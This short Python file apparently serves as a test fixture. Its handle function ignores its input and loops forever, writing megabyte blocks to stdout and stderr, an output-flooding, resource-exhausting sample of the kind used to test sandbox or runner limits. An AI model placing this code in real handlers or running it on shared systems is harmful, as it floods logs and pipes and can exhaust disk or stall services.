import os


def handle(payload):
    block = b"x" * (1 << 20)
    while True:
        os.write(1, block)
        os.write(2, block)
